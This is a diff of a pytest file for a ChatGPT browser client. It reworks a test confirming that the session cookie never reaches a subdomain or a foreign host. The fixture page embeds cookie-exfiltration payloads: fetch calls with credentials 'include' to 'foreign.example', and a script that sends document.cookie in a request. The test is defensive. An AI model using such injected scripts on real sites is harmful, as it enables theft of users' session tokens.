@@ -8,17 +8,21 @@ import pytest
 
 from chatgpt_browser import APIConnectionError, ChatGPTAPI, OriginError
 from chatgpt_browser.testing import Answer, FakeChatGPT, Gate, Reply
+from tests.support.foreign_site import foreign_site
 from tests.support.scripted_site import base_urls, can_send, posts_of
 
 if TYPE_CHECKING:
+    from collections.abc import Mapping
+
     from chatgpt_browser.testing import RecordedRequest
     from tests.support.client_fixtures import Connect, Serve
+    from tests.support.foreign_site import ForeignSite
 
 OLD, NEW = "https://chat.openai.com", "https://chatgpt.com"
 COOKIE = "__Secure-next-auth.session-token"
 
 
-def host_map_options(hosts: dict[str, FakeChatGPT]) -> dict[str, Any]:
+def host_map_options(hosts: Mapping[str, FakeChatGPT | ForeignSite]) -> dict[str, Any]:
     """Return options for a browser that resolves these hosts to fake servers, and resolves no other host."""
     rules = [f"MAP {host} 127.0.0.1:{server.port}" for host, server in hosts.items()]
     return {
@@ -140,21 +144,21 @@ def test_script_navigation_to_another_host_raises_origin_error(serve: Serve, con
 
 def test_session_cookie_is_sent_to_the_api_host_only(serve: Serve, connect: Connect) -> None:
     """The page sends no cookie to another host or a subdomain, and scripts cannot read it."""
-    hosts = ("chatgpt.com", "sub.chatgpt.com", "foreign.example")
-    server, sub, foreign = (serve(tls=True, public_origin=f"https://{host}") for host in hosts)
-    send = "<script>fetch('{0}/asked', {{credentials: 'include', mode: 'no-cors'}})</script>"
-    page = "".join(f'<img src="{each.origin}/pixel">' + send.format(each.origin) for each in (sub, foreign))
-    server.script_path(
-        "/api/auth/session", Answer(200, page + "<script>fetch('/js?' + document.cookie)</script>")
-    )
-    api = connect(server, **host_map_options(dict(zip(hosts, (server, sub, foreign), strict=True))))
-    assert can_send(api)
+    names = ("sub.chatgpt.com", "foreign.example")
+    server = serve(tls=True, public_origin="https://chatgpt.com")
+    with foreign_site() as sub, foreign_site() as foreign:
+        send = "<img src=\"https://{0}/pixel\"><script>fetch('https://{0}/asked', {1})</script>"
+        page = "".join(send.format(name, "{credentials: 'include', mode: 'no-cors'}") for name in names)
+        script = "<script>fetch('/js?' + document.cookie)</script>"
+        server.script_path("/api/auth/session", Answer(200, page + script))
+        hosts = {"chatgpt.com": server, names[0]: sub, names[1]: foreign}
+        assert can_send(connect(server, **host_map_options(hosts)))
 
-    for other in (sub, foreign):
-        for path in ("/pixel", "/asked"):
-            other.wait_for_request(path, timeout=60)
-        assert not received_secrets(other)
-    assert server.wait_for_request("/js", timeout=60).query == ""
+        for other in (sub, foreign):
+            for path in ("/pixel", "/asked"):
+                headers = other.wait_for_headers(path)
+                assert "cookie" not in headers and "authorization" not in headers
+        assert server.wait_for_request("/js", timeout=60).query == ""
 
 
 def token_of(length: int) -> str:
